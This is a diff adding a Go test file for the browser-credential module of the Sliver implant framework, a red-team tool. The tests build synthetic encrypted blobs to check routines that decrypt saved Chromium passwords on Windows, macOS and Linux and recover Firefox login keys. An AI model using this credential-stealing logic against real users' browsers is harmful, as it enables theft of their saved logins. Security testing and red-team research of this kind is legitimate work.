@@ -0,0 +1,194 @@
+package browser
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"crypto/aes"
+	"crypto/cipher"
+	"crypto/des"
+	"crypto/rand"
+	"crypto/sha1"
+	"crypto/sha256"
+	"crypto/x509/pkix"
+	"encoding/asn1"
+	"encoding/base64"
+	"testing"
+	"time"
+
+	"golang.org/x/crypto/pbkdf2"
+)
+
+func encryptCBC(block cipher.Block, iv []byte, plaintext []byte) []byte {
+	padding := block.BlockSize() - len(plaintext)%block.BlockSize()
+	padded := append(append([]byte{}, plaintext...), bytes.Repeat([]byte{byte(padding)}, padding)...)
+	ciphertext := make([]byte, len(padded))
+	cipher.NewCBCEncrypter(block, iv).CryptBlocks(ciphertext, padded)
+	return ciphertext
+}
+
+func randomBytes(size int) []byte {
+	data := make([]byte, size)
+	rand.Read(data)
+	return data
+}
+
+func TestChromiumDecrypt(t *testing.T) {
+	plaintext := []byte("hunter2")
+
+	// Windows
+	key := randomBytes(32)
+	block, _ := aes.NewCipher(key)
+	gcm, _ := cipher.NewGCM(block)
+	nonce := randomBytes(gcm.NonceSize())
+	value := append(append([]byte("v10"), nonce...), gcm.Seal(nil, nonce, plaintext, nil)...)
+	decrypter := &chromiumDecrypter{targetOS: "windows", secret: key}
+	if result, err := decrypter.decrypt(value); err != nil || !bytes.Equal(result, plaintext) {
+		t.Errorf("Windows decrypt failed %q %v", result, err)
+	}
+	if _, err := decrypter.decrypt([]byte{1, 0, 0, 0}); err != ErrLegacyDPAPI {
+		t.Errorf("Expected legacy DPAPI error, got %v", err)
+	}
+	if _, err := decrypter.decrypt(append([]byte("v20"), value[3:]...)); err != ErrAppBound {
+		t.Errorf("Expected app-bound error, got %v", err)
+	}
+
+	// MacOS
+	password := []byte("keychain password")
+	block, _ = aes.NewCipher(chromiumKey(password, 1003))
+	value = append([]byte("v10"), encryptCBC(block, chromiumIV, plaintext)...)
+	decrypter = &chromiumDecrypter{targetOS: "darwin", secret: password}
+	if result, err := decrypter.decrypt(value); err != nil || !bytes.Equal(result, plaintext) {
+		t.Errorf("MacOS decrypt failed %q %v", result, err)
+	}
+	decrypter.secret = []byte("wrong password")
+	if result, err := decrypter.decrypt(value); err == nil && bytes.Equal(result, plaintext) {
+		t.Errorf("MacOS decrypt succeeded with the wrong password")
+	}
+
+	// Linux, v10 is always keyed with "peanuts"
+	block, _ = aes.NewCipher(chromiumKey([]byte("peanuts"), 1))
+	value = append([]byte("v10"), encryptCBC(block, chromiumIV, plaintext)...)
+	decrypter = &chromiumDecrypter{targetOS: "linux", secret: password}
+	if result, err := decrypter.decrypt(value); err != nil || !bytes.Equal(result, plaintext) {
+		t.Errorf("Linux v10 decrypt failed %q %v", result, err)
+	}
+	block, _ = aes.NewCipher(chromiumKey(password, 1))
+	value = append([]byte("v11"), encryptCBC(block, chromiumIV, plaintext)...)
+	if result, err := decrypter.decrypt(value); err != nil || !bytes.Equal(result, plaintext) {
+		t.Errorf("Linux v11 decrypt failed %q %v", result, err)
+	}
+}
+
+func TestChromiumTime(t *testing.T) {
+	expected := time.Date(2021, 3, 4, 5, 6, 7, 0, time.UTC)
+	timestamp := (expected.Unix() + 11644473600) * 1000000
+	if !chromiumTime(timestamp).Equal(expected) {
+		t.Errorf("Expected %s, got %s", expected, chromiumTime(timestamp))
+	}
+}
+
+func pbes2Blob(t *testing.T, globalSalt []byte, primaryPassword []byte, plaintext []byte) []byte {
+	salt := randomBytes(32)
+	iv := randomBytes(14)
+	passwordHash := sha1.Sum(append(append([]byte{}, globalSalt...), primaryPassword...))
+	key := pbkdf2.Key(passwordHash[:], salt, 10, 32, sha256.New)
+	block, _ := aes.NewCipher(key)
+	ciphertext := encryptCBC(block, append([]byte{0x04, 0x0e}, iv...), plaintext)
+
+	kdfParams, _ := asn1.Marshal(pbkdf2Params{
+		Salt:       salt,
+		Iterations: 10,
+		KeyLength:  32,
+		PRF:        pkix.AlgorithmIdentifier{Algorithm: oidHMACWithSHA256, Parameters: asn1.NullRawValue},
+	})
+	ivParam, _ := asn1.Marshal(iv)
+	params, _ := asn1.Marshal(pbes2Params{
+		KDF:    pkix.AlgorithmIdentifier{Algorithm: oidPBKDF2, Parameters: asn1.RawValue{FullBytes: kdfParams}},
+		Cipher: pkix.AlgorithmIdentifier{Algorithm: oidAES256CBC, Parameters: asn1.RawValue{FullBytes: ivParam}},
+	})
+	blob, err := asn1.Marshal(encryptedBlob{
+		Algorithm:  pkix.AlgorithmIdentifier{Algorithm: oidPBES2, Parameters: asn1.RawValue{FullBytes: params}},
+		Ciphertext: ciphertext,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return blob
+}
+
+func legacyBlob(t *testing.T, globalSalt []byte, primaryPassword []byte, plaintext []byte) []byte {
+	entrySalt := randomBytes(20)
+	key, iv := legacyPBEKey(globalSalt, primaryPassword, entrySalt)
+	block, _ := des.NewTripleDESCipher(key)
+	params, _ := asn1.Marshal(legacyPBEParams{EntrySalt: entrySalt, Iterations: 1})
+	blob, err := asn1.Marshal(encryptedBlob{
+		Algorithm:  pkix.AlgorithmIdentifier{Algorithm: oidPBEWithSHA1And3DES, Parameters: asn1.RawValue{FullBytes: params}},
+		Ciphertext: encryptCBC(block, iv, plaintext),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return blob
+}
+
+func loginBlob(t *testing.T, key []byte, plaintext string) string {
+	iv := randomBytes(8)
+	block, _ := des.NewTripleDESCipher(key[:24])
+	ivParam, _ := asn1.Marshal(iv)
+	blob, err := asn1.Marshal(encryptedLogin{
+		KeyID:      randomBytes(16),
+		Cipher:     pkix.AlgorithmIdentifier{Algorithm: oidDESEDE3CBC, Parameters: asn1.RawValue{FullBytes: ivParam}},
+		Ciphertext: encryptCBC(block, iv, []byte(plaintext)),
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return base64.StdEncoding.EncodeToString(blob)
+}
+
+func TestFirefoxKey(t *testing.T) {
+	globalSalt := randomBytes(20)
+	loginKey := randomBytes(24)
+	check := append(append([]byte{}, passwordCheck...), 2, 2)
+
+	for name, encrypt := range map[string]func(*testing.T, []byte, []byte, []byte) []byte{
+		"pbes2":  pbes2Blob,
+		"legacy": legacyBlob,
+	} {
+		checkBlob := encrypt(t, globalSalt, []byte{}, check)
+		keyBlob := encrypt(t, globalSalt, []byte{}, loginKey)
+		key, err := firefoxKey(globalSalt, checkBlob, keyBlob, []byte{})
+		if err != nil || !bytes.Equal(key, loginKey) {
+			t.Errorf("%s: failed to recover key %v", name, err)
+			continue
+		}
+
+		// A primary password is set
+		checkBlob = encrypt(t, globalSalt, []byte("primary"), check)
+		if _, err := firefoxKey(globalSalt, checkBlob, keyBlob, []byte{}); err == nil {
+			t.Errorf("%s: recovered key without the primary password", name)
+		}
+	}
+
+	username, err := decryptLogin(loginKey, loginBlob(t, loginKey, "admin"))
+	if err != nil || username != "admin" {
+		t.Errorf("Failed to decrypt login %q %v", username, err)
+	}
+}